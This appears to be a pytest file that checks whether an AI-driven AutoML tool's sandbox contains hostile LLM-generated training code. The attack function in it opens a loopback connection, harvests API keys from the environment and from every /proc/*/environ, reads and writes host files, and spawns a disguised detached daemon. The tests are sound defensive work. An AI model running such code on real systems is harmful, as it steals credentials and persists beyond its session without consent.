"""Hostile generated code through the real LLM path, on every backend `auto` may choose.

A scripted OpenAI-compatible server on loopback answers the project's prompts with a valid
plan, space and scenario, and a training function that attacks: it connects to a listener
on loopback, looks for the API key in its own environment and in every /proc/*/environ,
reads a canary file of the host, writes beside it and into /tmp, starts a daemon, and prints
what it found. The run must go on and finish, and a user must find: no connection, no secret
in any request the server received or in the run folder, the canary folder unchanged, no
process of the attack left. A second run returns garbage (a -inf loss, a string score) and
asks for more trials than the config allows: crashed trials, a clamped scenario, a finished run.
"""

from __future__ import annotations

import csv
import subprocess
from pathlib import Path

import pytest

from tests.conftest import read_json, run_agent
from tests.llm_server import ScriptedLLMServer
from tests.nodes.test_llm_agents import (
    KEY,
    KEY_ENV,
    Listener,
    correct_agents,
    fenced,
    scenario_source,
    train_source,
)

pytestmark = [pytest.mark.slow]
BACKENDS = [pytest.param("process", id="process"), pytest.param("docker", id="docker", marks=pytest.mark.docker)]
MARK = "hostile-llm-daemon-7777"  # names the daemon the attack starts, to look for it afterwards


def attack(port: int, canary: Path) -> str:
    return f"""
import glob, os, socket, subprocess
found = []
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
    found.append("network")
except Exception:
    pass
found += [f"{{k}}={{v}}" for k, v in os.environ.items() if "KEY" in k]
for path in glob.glob("/proc/[0-9]*/environ"):  # the agent's own environment, by the key's name
    try:
        data = open(path, "rb").read()
        at = data.find(b"{KEY_ENV}=")
        if at >= 0:
            found.append(data[at:at + 80].decode(errors="replace"))
    except Exception:
        pass
try:
    found.append("canary:" + open({str(canary / "canary.txt")!r}).read())
except Exception:
    pass
for target in ({str(canary / "written.txt")!r}, "/tmp/escaped-by-a-trial.txt"):
    try:
        open(target, "w").write("x")
    except Exception:
        pass
try:
    subprocess.Popen(["sh", "-c", "exec -a {MARK} sleep 300"], start_new_session=True)
except Exception:
    pass
print("FOUND", found)
if found:
    raise RuntimeError("the attack found: " + repr(found))
"""


def run_hostile(tmp_path: Path, runs_dir: Path, backend: str, agents, *extra: str) -> tuple:
    with ScriptedLLMServer(agents) as server:
        config = tmp_path / "hostile.yaml"
        config.write_text(
            "name: hostile\ndataset: {name: iris}\noptimizer: {n_trials: 4, walltime: 60, workers: 1}\n"
            "verify: {n_configs: 1, n_samples: 30, subsample: 60}\n"
            f"llm: {{provider: openai_compatible, base_url: '{server.base_url}', model: scripted, "
            f"api_key_env: {KEY_ENV}, max_retries: 0, retry_backoff_s: 0.01}}\n"
        )
        result = run_agent(
            str(config),
            "--set",
            f"sandbox.backend={backend}",
            *extra,
            runs_dir=runs_dir,
            env={KEY_ENV: KEY},
            timeout=600,
        )
        requests = [str(r.body) for r in server.requests]
    return result, requests, runs_dir / "hostile"


@pytest.mark.parametrize("backend", BACKENDS)
def test_an_attacking_training_function_reaches_nothing_of_the_host(tmp_path, runs_dir, backend, request):
    if backend == "docker":
        request.getfixturevalue("docker_ready")
    canary = tmp_path / "host-only"
    canary.mkdir()
    (canary / "canary.txt").write_text("host secret 31337")
    with Listener("127.0.0.1") as listener:
        agents = correct_agents(train=[fenced(train_source(attack(listener.port, canary)))])
        result, requests, run = run_hostile(tmp_path, runs_dir, backend, agents)
    assert result.returncode == 0, result.stderr[-3000:]
    assert listener.connections == 0, "generated code reached a listener on the host's loopback"
    assert sorted(p.name for p in canary.iterdir()) == ["canary.txt"], "generated code wrote beside the canary"
    assert not Path("/tmp/escaped-by-a-trial.txt").exists() or backend == "docker"
    for text in requests:
        assert KEY not in text and "31337" not in text, "a secret travelled to the LLM endpoint"
    for path in run.rglob("*"):
        if path.is_file() and path.suffix in (".json", ".jsonl", ".md", ".py", ".csv", ".txt"):
            content = path.read_text(errors="replace")
            assert KEY not in content and "host secret 31337" not in content, path
    leftovers = subprocess.run(["pgrep", "-f", MARK], capture_output=True, text=True).stdout.split()
    assert not leftovers, f"processes of the attack outlived the run: {leftovers}"
    assert read_json(run / "metrics.json")["trials"]["finished"] == 4


GARBAGE = """
if len(data.y) > 100 and config.get("model") == "knn":  # in the search only, not in verification
    return {"loss": 0.1, "score": [0.9, 0.8, 0.95]}  # the fold scores instead of their mean
if len(data.y) > 100 and config.get("linear:C") != 1.0:
    return {"loss": -1e308, "score": 1.0}  # finite, so past the worker's own check: it would break SMAC
"""


def test_garbage_results_and_an_inflated_scenario_crash_only_their_trials(tmp_path, runs_dir):
    inflated = (
        scenario_source(5000)
        .replace('"walltime": 120.0', '"walltime": 100000.0')
        .replace('"n_workers": 1', '"n_workers": 6')
    )
    agents = correct_agents(train=[fenced(train_source(GARBAGE))], scenario=[fenced(inflated)])
    result, _, run = run_hostile(tmp_path, runs_dir, "process", agents, "--set", "optimizer.n_trials=6")
    assert result.returncode == 0, result.stderr[-3000:]
    search = read_json(run / "search.json")
    assert search["n_trials"] == 6, "the scenario's 5000 trials were not held to the config's 6"
    events = (run / "events.jsonl").read_text()
    assert "n_trials 5000 lowered to the configured 6" in events and "n_workers 6 lowered" in events
    rows = list(csv.DictReader(open(run / "trials.csv")))
    crashed = [r for r in rows if r["status"] == "crashed"]
    assert crashed and len(crashed) < len(rows), [r["status"] for r in rows]  # the default succeeded
    assert all("unusable" in r["error"] for r in crashed), [r["error"] for r in crashed]
    # The search's one usable trial is the linear default; the built-in portfolio trained beside
    # it (nodes/alongside.py) may beat it, and is then what was deployed.
    incumbent = read_json(run / "metrics.json")["incumbent"]
    assert incumbent["model"] == "linear" or search.get("incumbent_module") == "final/builtin/train.py"
